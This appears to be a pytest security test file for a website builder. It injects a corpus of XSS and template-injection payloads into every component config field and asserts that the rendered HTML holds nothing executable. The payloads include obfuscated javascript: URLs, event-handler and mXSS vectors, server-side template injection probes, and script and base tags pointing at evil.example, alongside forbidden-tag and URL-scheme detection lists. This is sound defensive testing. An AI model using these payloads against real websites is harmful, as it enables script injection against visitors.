"""Nothing a marketer types can run in a visitor's browser.

For every component type, each payload goes into every string field of its config at once (found by
walking the type's JSON Schema: text, rich text, URLs, list items, nested links, form fields, options,
hidden values…), and into the site and page fields the document head shows. A field that refuses the
payload (a URL field refusing javascript:) keeps a harmless value instead: refusing is protection too.
Whatever the type accepts is rendered and parsed the way a browser would, and the document must hold
nothing executable beyond the renderer's own, constant scripts.
"""

import re
from functools import cache

import html5lib
import pytest

from builder.components import REGISTRY, ConfigError
from builder.rendering import NavPage, PageData, SiteData, render_document
from builder.rendering.document import COUNTDOWN_SCRIPT, FORMS_SCRIPT, SITE_CSS, TURNSTILE_SCRIPT_URL

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01\x02 javascript:alert(1)",
    "\x00javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "'-alert(1)-'",
    '";alert(1);//',
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '#"><img src=x onerror=alert(1)>',
    '/" onmouseover="alert(1)',
    '/path?q="><script>alert(1)</script>',
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/' onerror='alert(1)",
    'mailto:a@example.com?subject="><script>alert(1)</script>',
    'tel:+1"><svg onload=alert(1)>',
    "{{7*7}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "${7*7}",
    "{{ config.__class__.__init__.__globals__ }}",
]
TEMPLATE_INJECTIONS = [payload for payload in PAYLOADS if "7*7" in payload]

MODES = ("published", "preview", "editor")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcdoc", "data", "poster", "background", "ping", "srcset"}
FORBIDDEN_TAGS = {"object", "embed", "base", "applet", "frame", "frameset", "math", "portal"}
VIDEO_PLAYERS = ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")
KNOWN_SCRIPTS = {"forms": FORMS_SCRIPT, "countdown": COUNTDOWN_SCRIPT}
# Browsers drop these before reading a URL's scheme: "java\tscript:", "\x01javascript:".
URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")
SAFE_DATETIME = "2030-01-01T09:00:00+00:00"


# --- Filling every string field of a config ---------------------------------------------------------------


def _resolve(schema: dict, defs: dict) -> dict:
    return defs[schema["$ref"].rsplit("/", 1)[-1]] if "$ref" in schema else schema


def _fill(schema: dict, defs: dict, leaf, variant: int, path: tuple = ()):
    """A value for `schema` with every string from leaf(schema, path). Enums and booleans rotate with
    `variant`, so across the payloads every layout, style and switch is rendered."""
    schema = _resolve(schema, defs)
    if "enum" in schema:
        return schema["enum"][variant % len(schema["enum"])]
    kind = schema.get("type")
    if kind == "object":
        return {name: _fill(prop, defs, leaf, variant, (*path, name)) for name, prop in schema["properties"].items()}
    if kind == "array":
        # Items rotate too, so a list of form fields holds several kinds and the corpus covers them all.
        count = min(3, schema.get("maxItems", 3))
        return [_fill(schema["items"], defs, leaf, variant + index, (*path, index)) for index in range(count)]
    if kind == "boolean":
        return bool(variant % 2)
    if kind == "integer":
        return schema.get("default", schema.get("minimum", 1))
    return leaf(schema, path)


def _safe_leaf(schema: dict, path: tuple) -> str:
    if schema.get("format") == "date-time":
        return SAFE_DATETIME
    if schema.get("format") == "uri-reference":
        return "https://example.com/safe"
    if "pattern" in schema:
        unique = "f" + "_".join(str(part) for part in path if isinstance(part, int))
        return next(value for value in (unique, "abcd1234", "#336699", "") if re.search(schema["pattern"], value))
    return "Safe text"


def _payload_leaf(payload: str):
    def leaf(schema: dict, path: tuple) -> str:
        # The countdown's target must parse as a date-time before anything renders it.
        return SAFE_DATETIME if schema.get("format") == "date-time" else payload

    return leaf


def _get(data, path):
    for part in path:
        data = data[part]
    return data


def _set(data, path, value):
    if not path:
        return value
    _get(data, path[:-1])[path[-1]] = value
    return data


@cache
def schema_of(type_name: str) -> tuple[dict, dict]:
    schema = REGISTRY[type_name].json_schema()
    return schema, schema.get("$defs", {})


@cache
def accepted_config(type_name: str, payload_index: int) -> tuple[dict, frozenset[str]]:
    """The payload in every string field the type accepts it in; the fields that refused it."""
    component_type = REGISTRY[type_name]
    schema, defs = schema_of(type_name)
    config = _fill(schema, defs, _payload_leaf(PAYLOADS[payload_index]), payload_index)
    safe = _fill(schema, defs, _safe_leaf, payload_index)
    refused: set[str] = set()
    for _ in range(20):
        try:
            return component_type.validate(config), frozenset(refused)
        except ConfigError as exc:
            for key in exc.errors:
                refused.add(key)
                path = tuple(int(part) if part.isdigit() else part for part in key.split(".")[1:])
                config = _set(config, path, _get(safe, path))
    raise AssertionError(f"{type_name}: no accepted config for payload {payload_index}")


# --- Checking a document --------------------------------------------------------------------------------------


def local_name(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def assert_nothing_executable(html: str, *, turnstile: bool) -> None:
    # The one stylesheet is the renderer's own; it is checked as text, then left out of the parse.
    head, style, rest = re.split(r"<style>|</style>", html, maxsplit=2)
    assert style.startswith(SITE_CSS)
    assert "<" not in style[len(SITE_CSS) :]
    doc = html5lib.HTMLParser(namespaceHTMLElements=False).parse(head + "<style></style>" + rest)

    for element in doc.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = local_name(element.tag)
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in element.attrib.items():
            attribute = local_name(name)
            assert not attribute.startswith("on"), (tag, name, value)
            assert attribute != "srcdoc", (tag, value)
            if attribute in URL_ATTRIBUTES or attribute.endswith("href"):
                scheme = URL_NOISE.sub("", value).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (tag, name, value)
        if tag == "script":
            if element.get("src"):
                assert turnstile and element.get("src") == TURNSTILE_SCRIPT_URL, element.attrib
                assert not (element.text or "").strip()
            else:
                assert element.get("data-sf-script") in KNOWN_SCRIPTS, f"injected script: {element.text!r}"
                assert element.text == KNOWN_SCRIPTS[element.get("data-sf-script")]
        elif tag == "style":
            assert not element.text, "a second stylesheet"
        elif tag == "iframe":
            assert element.get("src", "").startswith(VIDEO_PLAYERS), element.attrib
        elif tag == "meta":
            assert element.get("http-equiv") is None, element.attrib
        elif tag == "svg":
            assert element.get("aria-hidden") == "true", "an svg the renderer did not draw"
        elif element.get("style") is not None:
            assert re.fullmatch(r"--sf-divider:#[0-9a-fA-F]{6}", element.get("style")), element.attrib


def document_for(type_name: str, payload_index: int) -> tuple[str, bool]:
    payload = PAYLOADS[payload_index]
    config, _ = accepted_config(type_name, payload_index)
    turnstile = payload_index % 2 == 0
    site = SiteData(
        name=payload,
        theme={},
        seo={"title_suffix": payload[:300], "description": payload[:300]},
        favicon=payload,
        turnstile_site_key=payload if turnstile else "",
        base_url=payload,
    )
    page = PageData(title=payload, path="/", seo_title=payload, seo_description=payload, og_image=payload)
    tree = [
        {"id": f"00000000-0000-4000-8000-{payload_index:012d}", "type": type_name, "config": config, "children": []}
    ]
    html = render_document(
        site=site,
        page=page,
        tree=tree,
        mode=MODES[payload_index % len(MODES)],
        nav_pages=[NavPage(title=payload, path=payload)],
    )
    return html, turnstile and REGISTRY[type_name].is_form and MODES[payload_index % len(MODES)] != "editor"


# --- Tests ----------------------------------------------------------------------------------------------------


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("type_name", sorted(REGISTRY))
def test_payloads_in_every_field_render_nothing_executable(type_name):
    for index in range(len(PAYLOADS)):
        html, turnstile = document_for(type_name, index)
        assert_nothing_executable(html, turnstile=turnstile)


@pytest.mark.parametrize("type_name", sorted(REGISTRY))
def test_text_fields_take_the_payloads_and_only_urls_and_patterns_refuse_them(type_name):
    """The corpus reaches the renderer, so the test above is not vacuous: plain and rich text take
    any payload; only URL fields and fields with a fixed pattern refuse one."""
    schema, defs = schema_of(type_name)
    plain = set()

    def collect(leaf_schema, path):
        if not ({"pattern"} & set(leaf_schema) or leaf_schema.get("format") in ("uri-reference", "date-time")):
            plain.add(".".join(str(part) for part in path))
        return ""

    _fill(schema, defs, collect, 0)
    for payload in ("javascript:alert(1)", "<script>alert(1)</script>"):
        _, refused = accepted_config(type_name, PAYLOADS.index(payload))
        refused_fields = {key.removeprefix("config.") for key in refused}
        assert not plain & refused_fields
        for field in refused_fields:
            leaf = _get_schema(schema, defs, field)
            assert leaf.get("format") == "uri-reference" or "pattern" in leaf, field


def _get_schema(schema, defs, dotted):
    for part in dotted.split("."):
        schema = _resolve(schema, defs)
        schema = schema["items"] if part.isdigit() else schema["properties"][part]
    return _resolve(schema, defs)


@pytest.mark.parametrize("payload", TEMPLATE_INJECTIONS)
def test_template_syntax_in_content_renders_literally(payload):
    config, _ = accepted_config("heading", PAYLOADS.index(payload))
    tree = [{"id": "00000000-0000-4000-8000-000000000001", "type": "heading", "config": config, "children": []}]
    site = SiteData(name=payload, theme={}, seo={}, favicon="", turnstile_site_key="")

    html = render_document(site=site, page=PageData(title=payload), tree=tree)

    doc = html5lib.HTMLParser(namespaceHTMLElements=False).parse(html)
    texts = [element.text for element in doc.iter() if element.tag in ("title", "h1", "h2", "h3", "h4", "p")]
    assert payload.strip() in texts
    assert not any("49" in (text or "") for text in texts)


def test_a_rich_text_link_to_javascript_loses_its_href():
    for payload in ('<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>'):
        config, refused = accepted_config("rich_text", PAYLOADS.index(payload))
        assert not refused
        html = render_document(
            site=SiteData(name="Acme", theme={}, seo={}, favicon="", turnstile_site_key=""),
            page=PageData(title="Home"),
            tree=[{"type": "rich_text", "config": config, "children": []}],
        )
        link = html5lib.HTMLParser(namespaceHTMLElements=False).parse(html).find(".//div[@class]/a")
        assert link.text == "x"
        assert link.get("href") is None


def test_unsafe_navigation_paths_are_not_linked():
    html = render_document(
        site=SiteData(name="Acme", theme={}, seo={}, favicon="", turnstile_site_key=""),
        page=PageData(title="Home"),
        tree=[{"type": "navbar", "config": REGISTRY["navbar"].validate({"links": []}), "children": []}],
        nav_pages=[NavPage(title="Evil", path="javascript:alert(1)"), NavPage(title="Data", path="data:text/html,x")],
    )

    assert_nothing_executable(html, turnstile=False)
    assert "javascript:" not in html and "data:text" not in html
